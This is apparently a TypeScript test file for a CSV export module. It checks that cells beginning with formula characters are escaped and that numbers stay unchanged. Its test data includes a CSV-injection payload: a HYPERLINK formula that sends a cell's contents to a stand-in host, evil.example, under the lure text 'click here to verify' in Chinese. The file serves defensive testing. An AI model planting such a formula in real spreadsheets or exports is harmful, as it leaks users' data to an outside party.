import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildCsv, neutraliseCsvText } from './csv';

describe('CSV exports', () => {
  it('neutralises every text cell that a spreadsheet would run as a formula', () => {
    const attack = '=HYPERLINK("https://evil.example/?d="&C2,"点此核对")';
    const csv = buildCsv(
      ['直播', '金额'],
      [
        [attack, 12.5],
        ['+1+1', '-12.50'],
        ['@SUM(A1)', '-cmd'],
        ['\t=1', '\r=1'],
      ],
    );
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&C2,""点此核对"")"`);
    expect(csv).toContain("'+1+1,-12.50");
    expect(csv).toContain("'@SUM(A1),'-cmd");
    expect(csv).toContain("'\t=1");
    expect(csv.startsWith('\uFEFF直播,金额\r\n')).toBe(true);
  });

  it('no cell of any export starts with a formula character, and plain text is unchanged', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), (s) => {
        const out = neutraliseCsvText(s);
        if (/^-?\d+(\.\d+)?$/.test(s)) expect(out).toBe(s);
        else expect(out).not.toMatch(/^[=+\-@\t\r]/);
        if (!/^[=+\-@\t\r]/.test(s)) expect(out).toBe(s);
      }),
    );
  });

  it('keeps numbers numbers, negative ones included', () => {
    expect(buildCsv(['a'], [[-5], [3.25]])).toBe('\uFEFFa\r\n-5\r\n3.25\r\n');
  });
});
